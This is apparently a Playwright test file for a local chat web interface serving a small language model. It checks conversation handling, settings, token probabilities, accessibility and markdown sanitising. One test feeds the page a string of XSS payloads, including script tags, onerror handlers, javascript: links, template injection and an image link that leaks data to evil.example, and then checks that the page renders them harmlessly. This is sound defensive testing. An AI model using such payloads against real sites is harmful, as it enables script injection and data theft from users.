"""The chat page in Chromium, with the server of a tiny model. Skipped where there is no browser."""

import hashlib
import json
import os
import re
import shutil
import threading
from pathlib import Path

import pytest
import uvicorn

from groundup.artifacts.http_server import bind_socket
from groundup.model import build_model
from groundup.recipe import ModelConfig
from groundup.serve import create_app
from groundup.serve.conversation_starters import conversation_starters
from groundup.serve.page_files import FOLDER

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
ARGUMENTS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-background-networking"]


@pytest.fixture(scope="module")
def browser():
    playwright = pytest.importorskip("playwright.sync_api")
    if CHROMIUM is None:
        pytest.skip("no Chromium")
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        yield browser
        browser.close()


def run_server(app):
    """The address of an application that runs in a thread, until the generator is closed."""
    with bind_socket("127.0.0.1", 0) as listener:
        server = uvicorn.Server(uvicorn.Config(app, log_level="error", ws="none"))
        thread = threading.Thread(target=server.run, args=([listener],))
        thread.start()
        yield f"http://127.0.0.1:{listener.getsockname()[1]}/"
        server.should_exit = True
        thread.join()


@pytest.fixture(scope="module")
def address(model, tokenizer, base_tokenizer):
    """A server of a chat model, a base model, an encoder and an encoder-decoder."""
    shape = {"vocab_size": 260, "hidden_size": 32, "num_layers": 1, "num_heads": 2, "context_length": 64}
    others = {kind: build_model(ModelConfig(architecture=kind, **shape)) for kind in ("encoder", "encoder_decoder")}
    served = {"base": (model, base_tokenizer)} | {kind: (other, tokenizer) for kind, other in others.items()}
    yield from run_server(create_app(model, tokenizer, name="tiny", adapters=served, starters={"tiny": ["Hello?"]}))


@pytest.fixture
def page(browser, address):
    """The page in a fresh profile; any request to another host, and any error of a script, fails the test."""
    context = browser.new_context(accept_downloads=True, permissions=["clipboard-read", "clipboard-write"])
    context.add_init_script("localStorage['groundup.settings'] ??= '{\"max_tokens\": 12}'")
    page = context.new_page()
    page.set_default_timeout(20_000)
    strange, errors = [], []
    page.on("request", lambda request: request.url.startswith((address, "blob:")) or strange.append(request.url))
    page.on("pageerror", lambda error: errors.append(error))
    page.on("dialog", lambda dialog: errors.append(dialog.message))
    page.goto(address)
    page.wait_for_selector("#send")
    yield page
    context.close()
    assert not strange
    assert not errors


def send(page, text: str) -> None:
    page.fill("#text", text)
    page.keyboard.press("Enter")
    page.wait_for_selector("#composer:not(.busy)")


def scripted(page, text: str) -> list[dict]:
    """Answer each further question with `text`. Returns the requests, as they come."""
    asked: list[dict] = []

    def respond(route):
        asked.append(route.request.post_data_json)
        chunks = [{"choices": [{"index": 0, "delta": {"content": text}, "finish_reason": "stop"}]}]
        chunks.append({"choices": [], "usage": {"completion_tokens": 3, "total_tokens": 9}})
        body = "".join(f"data: {json.dumps(chunk)}\n\n" for chunk in chunks) + "data: [DONE]\n\n"
        route.fulfill(status=200, content_type="text/event-stream", body=body)

    page.route("**/v1/chat/completions", respond)
    return asked


def test_conversations_survive_a_reload_and_are_renamed_exported_and_deleted(page):
    page.click("#starters button")
    page.wait_for_selector(".turn.assistant:not(.writing)")
    answer = page.inner_text(".turn.assistant .words")
    assert answer
    assert page.inner_text(".turn.user .words") == "Hello?"
    page.reload()
    assert page.inner_text(".turn.assistant .words") == answer
    page.click("#new")
    assert page.is_visible("#welcome")
    page.click("#conversations .title")
    page.click("[aria-label='Rename Hello?']")
    page.fill(".rename", "My name")
    page.keyboard.press("Enter")
    with page.expect_download() as download:
        page.click("[aria-label='Export My name']")
    assert download.value.suggested_filename == "My-name.jsonl"
    messages = json.loads(Path(download.value.path()).read_text())["messages"]
    assert [turn["role"] for turn in messages] == ["user", "assistant"]
    page.click("[aria-label='Delete My name']")
    assert page.locator("#conversations li").count() == 0
    page.click("#notice button")
    assert page.inner_text(".title") == "My name"
    page.click("#open-settings")
    page.click("#delete-all")
    page.reload()
    assert page.locator("#conversations li").count() == 0


HOSTILE = """\
<script>alert(1)</script><img src="//evil.example/a.png" onerror="alert(2)"> <iframe src="https://evil.example"></iframe>

<svg onload=alert(3)> <style>body{display:none}</style> <a href="javascript:alert(4)">x</a> <form action="//evil.example">

![secret](https://evil.example/leak?q=1) [bad](javascript:alert(5)) [worse](java&#115;cript:alert(6)) [data](data:text/html,x)
[good](https://example.org/ "title") <https://evil.example/auto> [quote](https://example.org/"onmouseover="alert(7))

| a | b |
|---|--:|
| **bold** | `code` |

```html" onclick="alert(8)
<b>1 < 2 && "quoted"</b>
```

${alert(9)} {{constructor.constructor('alert(10)')()}}
"""


def test_markdown_of_a_model_is_shown_and_harmless(page):
    scripted(page, HOSTILE)
    send(page, "Attack!")
    words = page.locator(".turn.assistant .words")
    assert words.locator("script, img, iframe, style, form, svg, object, [style], [onclick], [onerror]").count() == 0
    links = words.locator("a").evaluate_all("links => links.map(link => [link.href, link.rel, link.target])")
    assert all(href.startswith("https://") for href, _, _ in links)
    assert all("noopener" in rel and target == "_blank" for _, rel, target in links)
    assert "<script>alert(1)</script>" in words.inner_text()
    assert words.locator("th").count() == 2
    assert words.locator("td strong").inner_text() == "bold"
    words.locator("figure button").click()
    assert page.evaluate("navigator.clipboard.readText()") == '<b>1 < 2 && "quoted"</b>'


def test_markdown_that_is_hard_to_read_is_shown(page):
    for text in (">" * 20_000, "[" * 5_000, "*a_" * 5_000, "![](" * 3_000, "1. " * 3_000):
        scripted(page, text)
        send(page, "Attack!")
        assert page.inner_text(".turn.assistant.last .words")
        page.unroute("**/v1/chat/completions")
        page.click("#new")


def test_stop_edit_retry_and_parameters(page):
    asked = []
    page.on("request", lambda request: request.method == "POST" and asked.append(request.post_data_json))
    page.click("#open-settings")
    page.fill("#system", "Be brief.")
    page.fill("#max_tokens", "12")
    page.fill("#seed", "7")
    page.fill("#temperature", "1.5")
    page.click("#settings [type=submit]")
    send(page, "one")
    assert asked[-1]["messages"] == [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "one"}]
    chosen = {"max_tokens": 12, "seed": 7, "temperature": 1.5, "top_p": 0.95, "min_tokens": 1, "model": "tiny"}
    assert chosen.items() <= asked[-1].items()
    first = page.inner_text(".turn.assistant .words")
    page.click(".turn.assistant button:text('Continue')")  # it ended at the limit of 12 tokens
    page.wait_for_selector("#composer:not(.busy)")
    assert asked[-1]["messages"][-1]["role"] == "assistant"
    assert page.locator(".turn").count() == 2
    assert len(page.inner_text(".turn.assistant .words")) > len(first)
    page.click(".turn.assistant button:text('Retry')")
    page.wait_for_selector("#composer:not(.busy)")
    assert page.inner_text(".turn.assistant .words") == first  # of the same seed
    assert asked[-1] == asked[0]
    page.hover(".turn.user")
    page.click(".turn.user button:text('Edit')")
    page.fill(".edit textarea", "two")
    page.keyboard.press("Enter")
    page.wait_for_selector("#composer:not(.busy)")
    assert [turn["content"] for turn in asked[-1]["messages"]] == ["Be brief.", "two"]
    page.keyboard.press("ArrowUp")
    assert page.input_value(".edit textarea") == "two"
    page.keyboard.press("Escape")
    assert page.locator(".edit").count() == 0


def test_stopping_keeps_what_was_written(page):
    page.add_init_script(SLOW_STREAM)
    page.reload()
    page.fill("#text", "go on")
    page.keyboard.press("Enter")
    page.wait_for_selector(".turn.assistant .words:has-text('word')")
    assert page.get_attribute("#log", "aria-busy") == "true"
    page.keyboard.press("Escape")
    page.wait_for_selector("#composer:not(.busy)")
    assert "stopped" in page.inner_text(".turn.assistant .below")
    assert "word" in page.inner_text(".turn.assistant .words")
    page.reload()
    assert "word" in page.inner_text(".turn.assistant .words")


SLOW_STREAM = """
const original = fetch;
window.fetch = (path, options) => {
  if (!options?.body) return original(path, options);
  const chunk = 'data: {"choices": [{"delta": {"content": "word "}}]}\\n\\n';
  let timer;
  const body = new ReadableStream({
    start(to) {
      timer = setInterval(() => to.enqueue(new TextEncoder().encode(chunk)), 20);
      options.signal.onabort = () => { clearInterval(timer); to.error(new DOMException("", "AbortError")); };
    },
  });
  return Promise.resolve(new Response(body));
};
"""


def test_a_message_that_is_too_long_is_refused_before_anything_is_forgotten(page):
    page.click("#open-settings")
    page.fill("#max_tokens", "4")
    page.click("#settings [type=submit]")
    for number in range(3):
        send(page, f"question {number}")
    send(page, "x" * 300)
    assert "expected at most" in page.inner_text("#notice")
    assert page.input_value("#text") == "x" * 300
    assert page.locator(".turn").count() == 6
    assert page.locator(".turn.dropped, .divider").count() == 0
    page.click(".turn.user >> nth=2 >> button:text('Edit')")
    page.fill(".edit textarea", "y" * 300)
    page.keyboard.press("Enter")
    page.wait_for_selector("#composer:not(.busy)")
    assert page.input_value(".edit textarea") == "y" * 300
    assert page.locator(".turn").count() == 6
    page.keyboard.press("Escape")
    send(page, "z" * 150)  # fits without the oldest
    assert page.locator(".turn").count() == 8
    assert page.locator(".turn.dropped").count() in (2, 4)
    assert page.locator(".divider").count() == 1


def test_questions_without_an_answer_are_left_out(page):
    scripted(page, " \n")
    send(page, "say nothing")
    assert "without a word" in page.inner_text(".turn.assistant")
    page.unroute("**/v1/chat/completions")
    asked = scripted(page, "Fine.")
    send(page, "How are you?")
    send(page, "And now?")
    assert [turn["content"] for turn in asked[-1]["messages"]] == ["How are you?", "Fine.", "And now?"]


def test_probabilities_of_tokens(page):
    page.click("#open-settings")
    page.check("#probabilities")
    page.fill("#max_tokens", "8")
    page.click("#settings [type=submit]")
    send(page, "hi")
    assert page.locator(".token").count() == 8
    page.hover(".token >> nth=3")
    assert re.search(r"\d+\.\d%", page.inner_text("#token-card strong"))
    assert page.locator("#token-card tr").count() == 5
    page.focus(".tokens")
    page.keyboard.press("ArrowRight")
    assert page.locator(".token.current").count() == 1
    page.reload()
    assert page.locator(".token").count() == 8


def test_answers_are_traced_to_training_text(browser, model, tokenizer, tracer):
    servers = run_server(create_app(model, tokenizer, name="tiny", tracer=tracer))
    page = browser.new_page()
    page.set_default_timeout(20_000)
    errors = []
    page.on("pageerror", lambda error: errors.append(error))
    page.on("dialog", lambda dialog: errors.append(dialog.message))
    page.goto(next(servers))
    answer = "👍 it was the best of times and the worst of <b onclick='alert(1)'>all</b> times, and so on"
    scripted(page, answer)
    send(page, "hi")
    page.click("button:has-text('Trace')")
    page.wait_for_selector(".traced")
    assert page.inner_text(".turn.assistant .tokens") == answer
    assert (
        page.inner_text(".traced").strip()
        == "it was the best of times and the worst of <b onclick='alert(1)'>all</b> times,"
    )
    page.hover(".traced")
    card = page.inner_text("#token-card")
    assert "2 times in 2 documents" in card
    assert "<i>books</i>" in card
    assert page.locator("#token-card :is(i, [onclick])").count() == 0
    page.hover("#text")
    page.wait_for_selector("#token-card", state="hidden")
    page.focus(".traced")
    page.wait_for_selector("#token-card")
    page.click("button:has-text('Trace')")
    assert page.locator(".traced").count() == 0
    page.context.close()
    next(servers, None)
    assert not errors


def test_other_kinds_of_models_say_what_they_are_for(page):
    def choose(name: str) -> str:
        page.select_option("#models", name)
        return page.inner_text("#welcome")

    assert page.is_visible("#starters button")
    assert "A base model" in choose("base")
    assert page.locator("#starters button").count() == 0
    assert page.get_attribute("#text", "placeholder") == "Text to continue"
    assert "/v1/embeddings" in choose("encoder")
    assert not page.is_visible("#composer")
    assert "An encoder-decoder" in choose("encoder_decoder")
    choose("base")
    page.click("#open-settings")
    assert not page.is_visible("#system")
    page.check("#probabilities")
    page.fill("#max_tokens", "5")
    page.click("#settings [type=submit]")
    with page.expect_request("**/v1/completions") as asked:
        send(page, "Once upon")
    assert asked.value.post_data_json["prompt"] == "Once upon"
    page.hover(".token >> nth=1")
    shares = [float(cell.rstrip("%")) for cell in page.locator("#token-card td:last-child").all_inner_texts()]
    assert shares == sorted(shares, reverse=True)
    written = "".join(turn["content"] for turn in json.loads(page.evaluate(STORED))["turns"][1:])
    with page.expect_request("**/v1/completions") as asked:
        page.click("button:text('Continue')")
    assert asked.value.post_data_json["prompt"] == "Once upon" + written


STORED = "localStorage[Object.keys(localStorage).find(name => name.startsWith('groundup.conversation.'))]"


def test_a_server_with_a_key_asks_for_it(browser, model, tokenizer):
    servers = run_server(create_app(model, tokenizer, name="tiny", api_key="secret"))
    page = browser.new_page()
    page.goto(next(servers))
    page.fill("#key", "wrong")
    page.keyboard.press("Enter")
    page.wait_for_selector("#key-notice:has-text('wrong API key')")
    page.fill("#key", "secret")
    page.keyboard.press("Enter")
    page.wait_for_selector("#greeting:has-text('Chat with tiny')")
    page.context.close()
    next(servers, None)


def test_phone_theme_and_names_of_controls(browser, address):
    context = browser.new_context(viewport={"width": 375, "height": 700}, color_scheme="dark")
    page = context.new_page()
    page.goto(address)
    scripted(
        page,
        "| a | b |\n|--|--|\n| " + "wide " * 60 + "|" + "x" * 300 + "|\n\n```\n" + "code" * 90 + "\n```\n" + "w" * 400,
    )
    send(page, "hello " * 30)
    assert page.evaluate("document.documentElement.scrollWidth") == 375
    assert (
        page.locator(".words").evaluate_all("all => Math.max(...all.map(one => one.getBoundingClientRect().right))")
        <= 375
    )
    assert not page.is_visible("#sidebar")
    page.click("#toggle-sidebar")
    assert page.is_visible("#new")
    page.keyboard.press("Escape")
    assert not page.is_visible("#sidebar")
    page.click("#theme")
    page.reload()
    assert page.get_attribute("html", "data-theme") == "light"
    unnamed = """all => all.filter(one => one.checkVisibility())
        .filter(one => !(one.ariaLabel || one.innerText.trim() || one.labels?.length)).map(one => one.outerHTML)"""
    assert page.locator("button, input, textarea, select").evaluate_all(unnamed) == []
    context.close()


@pytest.mark.interop
def test_axe_core_finds_nothing(browser, address):
    """GROUNDUP_AXE: axe.min.js of the npm package axe-core."""
    if not (script := os.environ.get("GROUNDUP_AXE")):
        pytest.skip("GROUNDUP_AXE")
    for scheme in ("light", "dark"):
        context = browser.new_context(color_scheme=scheme, bypass_csp=True)
        page = context.new_page()
        page.goto(address)
        page.add_script_tag(path=script)

        def check(page=page) -> None:
            found = page.evaluate(
                "axe.run().then(result => result.violations.map(each => [each.id, each.nodes.map(node => node.html)]))"
            )
            assert found == []

        check()
        scripted(
            page,
            "# Title\n\n| a | b |\n|--|--|\n| 1 | [x](https://example.org) |\n\n```python\nx = 1\n```\n\n> quoted `code`\n",
        )
        send(page, "hello")
        check()
        page.click("#open-settings")
        check()
        page.check("#probabilities")
        page.click("#settings [type=submit]")
        page.unroute("**/v1/chat/completions")
        send(page, "again")
        page.hover(".token >> nth=1")
        check()
        context.close()


def test_libraries_are_the_published_files():
    vendor = FOLDER / "vendor"
    listed = dict(
        reversed(line.split()) for line in (vendor / "README.txt").read_text().splitlines() if line[:2] == "  "
    )
    files = {file.relative_to(vendor).as_posix(): file for file in vendor.rglob("*.js")}
    assert listed == {name: hashlib.sha256(file.read_bytes()).hexdigest() for name, file in files.items()}
    assert all((vendor / name.split("/")[0] / "LICENSE.txt").is_file() for name in files)


def test_starters_are_messages_of_several_conversations(tmp_path):
    def line(text: str, *more: str) -> str:
        turns = [{"role": "user", "content": each} for each in (text, *more)]
        return json.dumps({"messages": [{"role": "system", "content": "s"}, *turns]}) + "\n"

    chat = tmp_path / "06-chat"
    chat.mkdir()
    texts = ["once", "twice", "twice", "thrice ", "thrice", "thrice", "x" * 80, "x" * 80, "a\nb", "a\nb"]
    (chat / "train.jsonl").write_text("".join(line(text, "again", "again") for text in texts) + '{"other": 1}\n')
    for path in (tmp_path, chat, chat / "adapter", tmp_path / "07-quantized", tmp_path / "08-export" / "model.gguf"):
        assert conversation_starters(path) == ["thrice", "twice"]
    assert conversation_starters(tmp_path / "04-base") == []
